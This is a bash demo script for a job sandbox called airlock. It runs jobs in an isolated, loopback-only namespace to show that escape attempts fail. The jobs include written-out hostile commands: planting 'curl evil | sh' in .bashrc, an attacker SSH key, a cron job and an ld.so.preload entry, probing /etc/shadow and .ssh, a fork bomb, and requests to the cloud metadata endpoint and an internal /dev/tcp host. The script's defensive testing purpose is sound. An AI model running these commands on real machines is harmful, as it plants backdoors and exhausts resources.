#!/usr/bin/env bash
# The main job, on a fresh machine: set up, build, and run jobs through `airlock run` that
# show its protections holding. Needs root. Touches no network.
set -euo pipefail
cd "$(dirname "$0")/.."
./scripts/setup.sh
cargo build --release --bins -p airlock
AIRLOCK="$PWD/target/release/airlock"
ws="$(mktemp -d /tmp/airlock-demo.XXXXXX)"
# Jobs get networks: the demo runs in a network namespace of its own, with nothing but
# loopback, so no packet can leave the machine whatever happens (../shared/ENVIRONMENT.md).
NS="airlock-demo-$$"
ip netns add "$NS"; ip -n "$NS" link set lo up
state="$(mktemp -d /run/airlock-demo-state.XXXXXX)"
export AIRLOCK_STATE_DIR="$state"
trap 'nsenter --net="/run/netns/$NS" "$AIRLOCK" gc --force >/dev/null 2>&1; ip netns del "$NS"; rm -rf "$ws" "$state"' EXIT
cp target/release/airlock-probe "$ws/"
cat > "$ws/policy.toml" <<'TOML'
version = 1
default_group = "untrusted"

[groups.untrusted]
description = "public pull requests"
limits = { memory = "256MiB", pids = 64, disk = "64MiB", timeout = "5s" }
TOML

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { nsenter --net="/run/netns/$NS" "$AIRLOCK" run --policy "$ws/policy.toml" --workdir "$ws" -- /bin/sh -c "$1" || true; }

step "1. Who am I inside a job? (non-root, no capabilities, no_new_privs, seccomp filter)"
run 'id; grep -E "^(CapEff|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status'

step "2. Escape attempts: each is refused"
run 'unshare -U true 2>&1 | head -1
mount -t tmpfs none /tmp 2>&1 | head -1
for p in /etc/shadow /root /var/run/docker.sock /home/admin/.ssh /proc/kcore /dev/kvm; do
  [ -e "$p" ] && echo "VISIBLE: $p" || echo "not visible: $p"; done
echo x > /sys/kernel/uevent_helper 2>&1 | head -1
./airlock-probe syscalls | tr "," "\n" | grep -c "\"errno\":1" | sed "s/^/syscalls denied with EPERM by seccomp: /"'

step "3. Scenario 1, persistent backdoor: job 1 plants, job 2 finds nothing"
run 'echo "curl evil | sh" >> ~/.bashrc; mkdir -p ~/.ssh; echo attacker-key >> ~/.ssh/authorized_keys
echo "* * * * * /tmp/b" > ~/.crontab; echo evil > /tmp/backdoor
echo /tmp/x.so > /etc/ld.so.preload 2>/dev/null || echo "ld.so.preload: denied"; echo "job 1: planted"'
run 'n=0; for p in ~/.bashrc ~/.ssh ~/.crontab /tmp/backdoor /etc/ld.so.preload; do
  [ -e "$p" ] && { echo "SURVIVED: $p"; n=1; }; done; [ $n = 0 ] && echo "job 2: nothing survived"'

step "4. Fork bomb: contained by the pids limit, killed by the wall-clock timeout"
run 'exec 2>/dev/null; bomb() { bomb | bomb & }; bomb; sleep 60'

step "5. Memory hog: killed at the memory limit"
run './airlock-probe alloc 2048 | tail -1'

step "6. Network: nothing but the group's allow-list (empty here); metadata never"
run 'getent hosts github.com || echo "DNS: github.com refused (not in the allow-list)"
curl -s -m 3 http://169.254.169.254/latest/meta-data/ || echo "metadata endpoint: refused"
timeout 3 bash -c "echo > /dev/tcp/10.0.0.1/5432" 2>/dev/null || echo "internal 10.0.0.1:5432: refused"'

step "7. Nothing left behind"
nsenter --net="/run/netns/$NS" "$AIRLOCK" gc
